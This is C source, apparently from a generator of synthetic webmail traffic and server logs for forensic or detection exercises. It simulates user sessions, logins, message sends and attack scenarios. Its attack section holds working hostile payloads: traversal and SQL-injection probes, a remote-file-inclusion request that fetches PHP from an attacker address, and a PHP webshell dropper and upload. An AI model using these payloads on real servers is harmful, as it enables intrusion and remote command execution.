	}
	out_roundcube(server, LOG_RC_ERRORS, t, "<%.8s> IMAP Error: Login failed for %s against imap1.example.net from %s. "
		"AUTHENTICATE PLAIN: Authentication failed. in /usr/share/roundcube/program/lib/Roundcube/rcube_imap.php on line 200 "
		"(POST /?_task=login&_action=login)", rc_sid, login, ipb);
	out_roundcube(server, LOG_RC_LOGINS, t, "<%.8s> Failed login for %s from %s in session %s (error: 0)", rc_sid, login, ipb,
		rc_sid);
}

static void rc_sent(int server, bs_time t, const struct user *u, const int *rcpt, int n, const char *msgid, const char *qid)
{
	if (!W.roundcube)
		return;
	char ipb[16], list[1024];
	ip_str(u->ip, ipb, sizeof ipb);
	size_t o = 0;
	for (int i = 0; i < n && o < sizeof list; i++)
		o += (size_t)snprintf(list + o, sizeof list - o, "%s%s", i ? ", " : "", W.addrs[rcpt[i]].s);
	out_roundcube(server, LOG_RC_SENDMAIL, t, "<%.8s> User %s [%s]; Message <%s> for %s; 250: 2.0.0 Ok: queued as %s", rc_sid,
		u->login_name, ipb, msgid, list, qid[0] ? qid : "1");
}

/* The owa scenarios: a send from Outlook on the web in the Client Access
 * server's Exchange message tracking log, the mailbox submission
 * (STOREDRIVER RECEIVE, at the form post) and the SMTP SEND to relay1 (at
 * the end of the relay's session). The internal-message-id counts the server's messages;
 * nothing is drawn, so that the other logs stay those of the scenario's
 * world without it. */
static void owa_tracked(int server, bs_time t, bs_time sent, const struct user *u, const int *rcpt, int n,
	const char *msgid, const char *subject, size_t size)
{
	static uint64_t tracked[NHOSTS];
	if (!W.owa)
		return;
	char list[1024], status[256], subj[256], cas[16], relay[16];
	size_t o = 0, so = 0, q = 0;
	for (int i = 0; i < n && o < sizeof list; i++)
		o += (size_t)snprintf(list + o, sizeof list - o, "%s%s", i ? ";" : "", W.addrs[rcpt[i]].s);
	for (int i = 0; i < n && so < sizeof status; i++)
		so += (size_t)snprintf(status + so, sizeof status - so, "%s250 2.1.5 Recipient OK", i ? ";" : "");
	for (const char *p = subject; *p && q + 2 < sizeof subj; p++) { /* CSV: quotes doubled */
		if (*p == '"')
			subj[q++] = '"';
		subj[q++] = *p;
	}
	subj[q] = 0;
	const uint8_t *ci = hosts[server].ip, *ri = hosts[H_RELAY1].ip;
	snprintf(cas, sizeof cas, "%u.%u.%u.%u", ci[0], ci[1], ci[2], ci[3]);
	snprintf(relay, sizeof relay, "%u.%u.%u.%u", ri[0], ri[1], ri[2], ri[3]);
	const char *name = host_names[server], *from = W.addrs[u->addr].s;
	unsigned long long id = 45000000000000ULL + (unsigned long long)server * 1000000000ULL + ++tracked[server];
	out_msgtrk(server, t, "%s,%s,,%s,\"MDB:%08x-0000-4000-8000-%012x, Mailbox:%08x, ClientType:OWA\",,STOREDRIVER,"
		"RECEIVE,%llu,<%s>,,%s,,%zu,%d,,,\"%s\",%s,%s,,Originating,,,,,Email,,15.01.2507.006", cas, name, name,
		(unsigned)server, (unsigned)server, (unsigned)u->addr, id, msgid, list, size, n, subj, from, from);
	out_msgtrk(server, sent > t ? sent : t, "%s,%s,%s,relay1.%s,250 2.0.0 OK,%s\\Outbound to relay1,SMTP,SEND,%llu,<%s>,,%s,"
		"%s,%zu,%d,,,\"%s\",%s,%s,,Originating,,,,,Email,,15.01.2507.006", cas, name, relay, LOCAL_DOMAIN, name, id,
		msgid, list, status, size, n, subj, from, from);
}

static bs_time app_send(int server, int user, bs_time t)
{
	struct user *u = &W.users[user];
	int rcpt[6], n = 1 + (rng_chance(R, 0.3) ? (int)rng_below(R, 3) : 0);
	for (int i = 0; i < n; i++) {
		if (u->nabook && rng_chance(R, 0.8))
			rcpt[i] = u->abook[rng_below(R, (uint32_t)u->nabook)];
		else if (rng_chance(R, 0.3))
			rcpt[i] = W.users[rng_below(R, (uint32_t)W.nusers)].addr;
		else
			rcpt[i] = W.pool[rng_below(R, (uint32_t)W.npool)];
		for (int k = 0; k < i; k++)
			if (rcpt[k] == rcpt[i])
				n = i; /* duplicate: stop at the previous ones */
	}
	if (n < 1)
		n = 1;
	const char *subject = random_subject();
	/* The form post. */
	static struct buf data;
	struct buf *form = &send_form;
	buf_clear(form);
	buf_puts(form, "emailto=");
	url_encode(form, W.addrs[rcpt[0]].s);
	buf_puts(form, "&emailcc=");
	for (int i = 1; i < n; i++) {
		if (i > 1)
			buf_puts(form, "%2C+");
		url_encode(form, W.addrs[rcpt[i]].s);
	}
	buf_puts(form, "&emailsubject=");
	url_encode(form, subject);
	buf_puts(form, "&emailmessage=");
	url_encode(form, "Hi,\r\n\r\nsee you soon.\r\n\r\nRegards");
	/* The message as the application submits it. */
	char iso[40];
	bs_time_format(t, 0, iso, sizeof iso);
	buf_clear(&data);
	buf_printf(&data, "Date: %s\r\nFrom: %s %s <%s>\r\nTo: %s\r\n", iso, u->first, u->last, W.addrs[u->addr].s, W.addrs[rcpt[0]].s);
	if (n > 1) {
		buf_puts(&data, "Cc: ");
		for (int i = 1; i < n; i++)
			buf_printf(&data, "%s%s", i > 1 ? ", " : "", W.addrs[rcpt[i]].s);
		buf_puts(&data, "\r\n");
	}
	char msgid[96];
	snprintf(msgid, sizeof msgid, "%llu.%08x@%s", (unsigned long long)(t / BS_USEC), (unsigned)rng_next(R), LOCAL_DOMAIN);
	buf_printf(&data, "Subject: %s\r\nMessage-ID: <%s>\r\nX-Mailer: AtMail 5.0\r\nMIME-Version: 1.0\r\n"
		"Content-Type: text/plain; charset=\"utf-8\"\r\n\r\nHi,\r\n\r\nsee you soon.\r\n\r\nRegards\r\n",
		subject, msgid);
	/* SMTP, then one Log_SendMail row per recipient. */
	char sql[512];
	struct tcpconn tc;
	char date[40];
	snprintf(date, sizeof date, "%.10s %.8s", iso, iso + 11);
	bool authed = true;
	char qid[16] = "";
	bs_time ts = W.variety ? variety_send(server, user, rcpt, n, &data, t, &authed)
		: smtp_to_relay(server, u->login_name, u->password, W.addrs[u->addr].s, u->addr, rcpt, n, data.p, data.n, t, qid);
	rc_sent(server, ts, u, rcpt, n, msgid, qid);
	owa_tracked(server, t, ts, u, rcpt, n, msgid, subject, data.n);
	mysql_open(&tc, server, ts, "atmail");
	for (int i = 0; i < n; i++) {
		if (W.odb) {
			snprintf(sql, sizeof sql, "INSERT INTO Correspondents (Account, Email, Name, Direction) VALUES ('%s', '%s', '', 'sent')",
				W.addrs[u->addr].s, W.addrs[rcpt[i]].s);
			corr_add(user, rcpt[i], false);
		} else {
			snprintf(sql, sizeof sql, "INSERT INTO Log_SendMail (Account, EmailTo, Date) VALUES ('%s', '%s', '%s')",
				W.addrs[u->addr].s, W.addrs[rcpt[i]].s, date);
		}
		mysql_exec(&tc, sql, 1);
	}
	mysql_quit(&tc);
	for (int i = 0; i < n; i++) {
		if (authed)
			truth_sent(rcpt[i], t);
		if (W.nsendlog == W.csendlog) {
			W.csendlog *= 2;
			W.sendlog = bs_xrealloc(W.sendlog, (size_t)W.csendlog * sizeof *W.sendlog);
		}
		W.sendlog[W.nsendlog++] = (struct row2){ user, rcpt[i], t };
	}
	return tc.t;
}

void web_user_session(int user, bs_time t)
{
	struct user *u = &W.users[user];
	int server = (int)rng_below(R, NWEB);
	if (rng_chance(R, 0.03) && !u->nat)
		u->ip = random_client_ip(R); /* a new address from the ISP */
	struct webconn w;
	web_begin(&w, server, u->ip, user_agent(u->ua));
	/* In the variety world wm1, wm3 and wm5 run the PHP way: the login
	 * page opens the session (PHPSESSID, derived from user and time, not
	 * drawn), the login posts it back and is answered 200 with the inbox
	 * itself, no redirect, no new cookie; a failed one gets the form again. */
	bool php = W.variety && server % 2 == 0;
	char phpsid[27], php_setc[96] = "", php_cookie[64] = "";
	snprintf(phpsid, sizeof phpsid, "%08x%08x%08x%02x", (unsigned)user * 2654435761u, (unsigned)(t / BS_USEC),
	         (unsigned)(t % BS_USEC) * 40503u, (unsigned)server);
	if (php) {
		snprintf(php_setc, sizeof php_setc, "Set-Cookie: PHPSESSID=%s; path=/\r\n", phpsid);
		snprintf(php_cookie, sizeof php_cookie, "Cookie: PHPSESSID=%s\r\n", phpsid);
	}
	page_index(server, t, NULL);
	struct http_reply rep = html_reply(200, php ? php_setc : NULL);
	t = web_request(&w, t, "GET", "/mail/index.php", NULL, NULL, 0, &rep, -1);
	/* The login form; sometimes a typo first. */
	struct buf form = { 0 };
	int tries = rng_chance(R, 0.04) ? 2 : 1;
	char cookie[96] = "", setc[128] = "";
	for (int k = 0; k < tries; k++) {
		bool ok = k + 1 == tries;
		t += rng_span(R, 4, 20);
		buf_clear(&form);
		if (W.roundcube) {
			/* Roundcube's login form: its own field names, a request
			 * token, the browser's time zone. The token is derived
			 * from user and time, not drawn, so that every draw (and
			 * so the truth) stays the reference's. */
			buf_printf(&form, "_token=%08x%08x&_task=login&_action=login&_timezone=Europe%%2FBerlin&_url=&_user=",
			           (unsigned)user * 2654435761u, (unsigned)(t / BS_USEC));
			url_encode(&form, u->login_name);
			buf_puts(&form, "&_pass=");
			url_encode(&form, ok ? u->password : "wrongpass");
		} else if (php) {
			/* the PHP-way servers run another webmail: its field names
			 * are none a parser lists (the user is known by its value) */
			buf_puts(&form, "lang=en&acct=");
			url_encode(&form, u->login_name);
			buf_puts(&form, "&pw=");
			url_encode(&form, ok ? u->password : "wrongpass");
		} else {
			buf_puts(&form, "username=");
			url_encode(&form, u->login_name);
			buf_puts(&form, "&password=");
			url_encode(&form, ok ? u->password : "wrongpass");
			buf_puts(&form, "&pop3host=example.net");
		}
		/* Server side, between request and response: IMAP auth, then the DB. */
		bs_time tb = t + rng_span(R, 0.15, 0.4);
		bs_time te = imap_webmail_login(server, u->login_name, ok ? u->password : "wrongpass", ok, tb);
		if (ok) {
			te = app_login_db(server, u, te);
			static const char hex[] = "0123456789abcdef";
			char sid[33];
			for (int i = 0; i < 32; i++)
				sid[i] = hex[rng_below(R, 16)];
			sid[32] = 0;
			const char *cname = W.roundcube ? "roundcube_sessid" : "atmail6";
			snprintf(setc, sizeof setc, "Set-Cookie: %s=%s; path=/%s\r\nLocation: /mail/showmail.php\r\n", cname,
			         sid, W.roundcube ? "; HttpOnly" : "");
			snprintf(cookie, sizeof cookie, "Cookie: %s=%s\r\n", cname, sid);
			rep = (struct http_reply){ 302, NULL, setc, NULL, 0, false };
			if (php) {
				snprintf(cookie, sizeof cookie, "%s", php_cookie);
				page_inbox(user);
				rep = html_reply(200, NULL);
			}
			truth_login(user, server, t);
			rc_login(server, t, u->login_name, user, u->ip, true);
		} else {
			page_index(server, t, "Login failed: check your email address and password.");
			rep = html_reply(200, NULL);
			rc_login(server, t, u->login_name, user, u->ip, false);
		}
		w.resp_after = te;
		char req_headers[160];
		snprintf(req_headers, sizeof req_headers, "Content-Type: application/x-www-form-urlencoded\r\n%s", php_cookie);
		/* the PHP way's inbox answers the login in the session: a tampered
		 * one counts for its user */
		t = web_request(&w, t, "POST", "/mail/login.php", req_headers, form.p, form.n, &rep, php && ok ? user : -1);
	}
	buf_free(&form);
	if (!cookie[0]) {
		web_end(&w);
		return;
	}
	page_inbox(user);
	rep = html_reply(200, NULL);
	t = web_request(&w, t + rng_span(R, 0.2, 1), "GET", "/mail/showmail.php?Folder=Inbox", cookie, NULL, 0, &rep, user);
	int actions = 1 + (int)rng_below(R, u->heavy ? 5 : 3);
	for (int a = 0; a < actions; a++) {
		t += rng_span(R, 3, 60);
		uint32_t k = rng_below(R, 100);
		if (k < 45) {
			char uri[64];
			unsigned id = 100 + rng_below(R, 20);
			snprintf(uri, sizeof uri, "/mail/reademail.php?id=%u", id);
			if (W.odb && u->nopened < u->ninbox)
				w.resp_after = app_open_db(server, user, t + rng_span(R, 0.1, 0.2));
			page_read(user, id);
			rep = html_reply(200, NULL);
			t = web_request(&w, t, "GET", uri, cookie, NULL, 0, &rep, user);
		} else if (k < 60) {
			w.resp_after = app_abook_db(server, user, t + rng_span(R, 0.15, 0.3));
			page_abook(user);
			rep = html_reply(200, NULL);
			t = web_request(&w, t, "GET", "/mail/abook.php", cookie, NULL, 0, &rep, user);
		} else if (k < 82) {
			page_simple("Compose", "<form method=\"post\" action=\"/mail/sendmail.php\">\n<table class=\"compose\">\n"
				"<tr><td>To:</td><td><input type=\"text\" name=\"emailto\" size=\"60\"></td></tr>\n"
				"<tr><td>Cc:</td><td><input type=\"text\" name=\"emailcc\" size=\"60\"></td></tr>\n"
				"<tr><td>Subject:</td><td><input type=\"text\" name=\"emailsubject\" size=\"60\"></td></tr>\n"
				"<tr><td colspan=\"2\"><textarea name=\"emailmessage\" rows=\"20\" cols=\"80\"></textarea></td></tr>\n"
				"</table>\n<input type=\"submit\" value=\"Send\">\n</form>\n");
			rep = html_reply(200, NULL);
			t = web_request(&w, t, "GET", "/mail/compose.php", cookie, NULL, 0, &rep, user);
			t += rng_span(R, 20, 240);
			w.resp_after = app_send(server, user, t + rng_span(R, 0.15, 0.3));
			page_simple("Message sent", "<p class=\"notice\">Your message has been sent.</p>\n");
			rep = html_reply(200, NULL);
			t = web_request(&w, t, "POST", "/mail/sendmail.php", "Content-Type: application/x-www-form-urlencoded\r\n"
				, send_form.p, send_form.n, &rep, user);
		} else {
			page_inbox(user);
			rep = html_reply(200, NULL);
			t = web_request(&w, t, "GET", "/mail/showmail.php?Folder=Inbox", cookie, NULL, 0, &rep, user);
		}
	}
	if (W.odb && rng_chance(R, 0.1)) {
		t += rng_span(R, 5, 40);
		w.resp_after = app_abook_add(server, user, t + rng_span(R, 0.15, 0.3));
		page_abook(user);
		rep = html_reply(200, NULL);
		t = web_request(&w, t, "POST", "/mail/abook.php", "Content-Type: application/x-www-form-urlencoded\r\n",
			send_form.p, send_form.n, &rep, user);
	}
	if (rng_chance(R, 0.5)) {
		page_index(server, t, "You have been logged out.");
		rep = html_reply(200, "Set-Cookie: atmail6=deleted; expires=Thu, 01-Jan-1970 00:00:01 GMT; path=/\r\n");
		web_request(&w, t + rng_span(R, 5, 60), "GET", "/mail/logout.php", cookie, NULL, 0, &rep, user);
	}
	web_end(&w);
}

/* ------------------------------------------- scanners, brute force, attack */
static const char NOT_FOUND[] = "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>404 Not Found</title>\n"
	"</head><body>\n<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>\n<hr>\n"
	"<address>Apache/2.2.3 (CentOS) Server at webmail.example.net Port 80</address>\n</body></html>\n";
static const char FORBIDDEN[] = "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>403 Forbidden</title>\n"
	"</head><body>\n<h1>Forbidden</h1>\n<p>You don't have permission to access this resource.</p>\n<hr>\n"
	"<address>Apache/2.2.3 (CentOS) Server at webmail.example.net Port 80</address>\n</body></html>\n";

static const struct { const char *uri; int status; } probes[] = {
	{ "/mail/../../../../../etc/passwd", 404 },
	{ "/mail/showmail.php?Folder=../../../../etc/passwd%00", 403 },
	{ "/mail/index.php?page=http://203.0.113.66/x.txt?", 403 },
	{ "/mail/login.php?username=admin%27%20OR%201=1--&password=x", 403 },
	{ "/phpmyadmin/", 404 },
	{ "/phpMyAdmin/scripts/setup.php", 404 },
	{ "/mail/config.php.bak", 404 },
	{ "/mail/util.php?file=../../../../etc/passwd", 404 },
	{ "/cgi-bin/php?-d+allow_url_include%3Don+-d+auto_prepend_file%3Dphp://input", 404 },
	{ "/mail/reademail.php?id=1%20UNION%20SELECT%20Password%20FROM%20Users--", 403 },
	{ "/admin/config.php", 404 },
	{ "/mail/parse.php.old", 404 },
};
#define NPROBES (int)(sizeof probes / sizeof probes[0])

void web_probe(int server, uint32_t ip, bs_time t, int nprobes, const char *ua)
{
	struct webconn w;
	web_begin(&w, server, ip, ua);
	int first = (int)rng_below(R, NPROBES);
	for (int i = 0; i < nprobes; i++) {
		int k = (first + i) % NPROBES;
		bool nf = probes[k].status == 404;
		struct http_reply rep = { probes[k].status, "text/html; charset=iso-8859-1", NULL, nf ? NOT_FOUND : FORBIDDEN,
			nf ? sizeof NOT_FOUND - 1 : sizeof FORBIDDEN - 1, false };
		t = web_request(&w, t, "GET", probes[k].uri, NULL, NULL, 0, &rep, -1) + rng_span(R, 0.2, 3);
	}
	web_end(&w);
}

void web_bruteforce(int server, uint32_t ip, bs_time t, int attempts)
{
	static const char *const names[] = { "admin", "test", "info", "webmaster", "root", "sales", "support", "user", "office", "postmaster" };
	struct webconn w;
	web_begin(&w, server, ip, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)");
	struct buf form = { 0 };
	char user[128];
	for (int i = 0; i < attempts; i++) {
		if (rng_chance(R, 0.5))
			snprintf(user, sizeof user, "%s@%s", names[rng_below(R, 10)], LOCAL_DOMAIN);
		else
			snprintf(user, sizeof user, "%s", W.addrs[W.users[rng_below(R, (uint32_t)W.nusers)].addr].s);
		buf_clear(&form);
		buf_puts(&form, "username=");
		url_encode(&form, user);
		buf_printf(&form, "&password=%s%u&pop3host=example.net", i % 3 ? "password" : "123456", i % 50);
		w.resp_after = imap_webmail_login(server, user, "password", false, t + rng_span(R, 0.15, 0.3));
		rc_login(server, t, user, -1, ip, false);
		page_index(server, t, "Login failed: check your email address and password.");
		struct http_reply rep = html_reply(200, NULL);
		t = web_request(&w, t, "POST", "/mail/login.php", "Content-Type: application/x-www-form-urlencoded\r\n", form.p, form.n,
			&rep, -1) + rng_span(R, 1, 12);
	}
	buf_free(&form);
	web_end(&w);
}

static void attacker_seen(int server, uint32_t ip, bs_time t)
{
	char s[BS_IP_STRLEN];
	ip_str(ip, s, sizeof s);
	server_add_attacker_ip(server, s, false);
	server_activity(server, t);
}

static const char *const attacker_ua = "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.0.7) Gecko/20060909 Firefox/1.5.0.7";

bs_time web_exploit_rfi(int server, uint32_t ip, bs_time t)
{
	struct webconn w;
	web_begin(&w, server, ip, attacker_ua);
	char uri[256], ips[BS_IP_STRLEN];
	ip_str(ip, ips, sizeof ips);
	snprintf(uri, sizeof uri, "/mail/parse.php?file=http://%s/x.txt?&cmd=id", ips);
	/* parse.php includes the remote file: the server fetches it from the attacker. */
	struct tcpconn tc;
	struct host_addr att;
	host_addr_v4(&att, ip, false);
	bs_time rtt = internet_rtt() * 2;
	tcp_connect(&tc, &hosts[server], &att, eph_port(), 80, t + 300000, 150, rtt, true);
	static struct buf b;
	buf_clear(&b);
	buf_printf(&b, "GET /x.txt?&cmd=id HTTP/1.0\r\nHost: %s\r\n\r\n", ips);
	tcp_send(&tc, false, b.p, b.n);
	static const char payload[] = "<?php\n$d = dirname(__FILE__) . '/tmp';\n"
		"$f = fopen($d . '/.cache.php', 'w');\nfwrite($f, '<?php if(isset($_REQUEST[\"cmd\"])){echo \"<pre>\";passthru($_REQUEST[\"cmd\"]);echo \"</pre>\";} ?>');\n"
		"fclose($f);\npassthru($_GET['cmd']);\n?>\n";
	buf_clear(&b);
	buf_printf(&b, "HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: %zu\r\nConnection: close\r\nContent-Type: text/plain\r\n\r\n%s",
		sizeof payload - 1, payload);
	tcp_wait(&tc, 3000);
	tcp_send(&tc, true, b.p, b.n);
	tcp_close(&tc, true, false);
	w.resp_after = tc.t + 5000;
	static const char out[] = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n";
	struct http_reply rep = { 200, "text/html", NULL, out, sizeof out - 1, false };
	web_request(&w, t, "GET", uri, NULL, NULL, 0, &rep, -1);
	web_end(&w);
	/* The request time as the capture and the access log see it. */
	bs_time treq = w.tc.t;
	(void)treq;
	return t;
}

bs_time web_exploit_upload(int server, uint32_t ip, bs_time t, const char *shell_path)
{
	struct webconn w;
	web_begin(&w, server, ip, attacker_ua);
	const char *fname = strrchr(shell_path, '/') + 1;
	static struct buf b;
	static const char boundary[] = "---------------------------7d71f2a1502b6";
	buf_clear(&b);
	buf_printf(&b, "--%s\r\nContent-Disposition: form-data; name=\"MAX_FILE_SIZE\"\r\n\r\n1000000\r\n"
		"--%s\r\nContent-Disposition: form-data; name=\"userfile\"; filename=\"%s\"\r\nContent-Type: image/jpeg\r\n\r\n"
		"GIF89a<?php if(isset($_REQUEST['cmd'])){echo '<pre>';system($_REQUEST['cmd']);echo '</pre>';} ?>\r\n"
		"--%s\r\nContent-Disposition: form-data; name=\"dir\"\r\n\r\nimages\r\n--%s--\r\n",
		boundary, boundary, fname, boundary, boundary);
	char hdr[160];
	snprintf(hdr, sizeof hdr, "Content-Type: multipart/form-data; boundary=%s\r\n", boundary);
	static const char ok[] = "<html><body>File uploaded: images/thumb.php</body></html>\n";
	struct http_reply rep = { 200, "text/html", NULL, ok, sizeof ok - 1, false };
	web_request(&w, t, "POST", "/mail/upload.php", hdr, b.p, b.n, &rep, -1);
	web_end(&w);
	return t;
}

bs_time web_shell(int server, uint32_t ip, bs_time t, const char *cmd, const char *output)
{
	return web_shell_via(server, ip, t, WS[server].shell_path, VIA_GET, 200, cmd, output);
}

bs_time web_shell_via(int server, uint32_t ip, bs_time t, const char *path, enum shell_via via, int status,
	const char *cmd, const char *output)
{
	struct webconn w;
	web_begin(&w, server, ip, attacker_ua);
	static struct buf uri, out, body, hdr;
	static const char boundary[] = "----------------------------3f9a1c0d7be2";
	buf_clear(&uri);
	buf_clear(&body);
	buf_clear(&hdr);
	buf_puts(&uri, path);
	switch (via) {
	case VIA_GET:
		buf_puts(&uri, "?cmd=");
		url_encode(&uri, cmd);
		break;
	case VIA_FORM:
		buf_puts(&hdr, "Content-Type: application/x-www-form-urlencoded\r\n");
		buf_puts(&body, "cmd=");
		url_encode(&body, cmd);
		break;
	case VIA_MULTIPART:
		buf_printf(&hdr, "Content-Type: multipart/form-data; boundary=%s\r\n", boundary);
		buf_printf(&body, "--%s\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n%s\r\n--%s--\r\n", boundary, cmd, boundary);
		break;
	case VIA_COOKIE:
		buf_puts(&hdr, "Cookie: z=");
		base64_encode(&hdr, cmd, strlen(cmd));
		buf_puts(&hdr, "\r\n");
		break;
	case VIA_HEADER:
		buf_printf(&hdr, "X-Cmd: %s\r\n", cmd);
		break;
	case VIA_BODY:
		buf_puts(&hdr, "Content-Type: application/octet-stream\r\n");
		buf_puts(&body, cmd);
		break;
	}
	struct http_reply rep = { 404, "text/html; charset=iso-8859-1", NULL, NOT_FOUND, sizeof NOT_FOUND - 1, false };
	if (status == 200) {
		buf_clear(&out);
		buf_printf(&out, "<pre>%s</pre>", output);
		rep = (struct http_reply){ 200, "text/plain", NULL, out.p, out.n, false };
	}
	bool post = via == VIA_FORM || via == VIA_MULTIPART || via == VIA_BODY;
	web_request(&w, t, post ? "POST" : "GET", uri.p, hdr.n ? hdr.p : NULL, body.p, body.n, &rep, -1);
	web_end(&w);
	if (status == 200) {
		attacker_seen(server, ip, t);
	} else {
		char s[BS_IP_STRLEN];
		ip_str(ip, s, sizeof s);
		server_add_attacker_ip(server, s, false); /* a probe: in the timeline, not in the window */
	}
	return t;
}
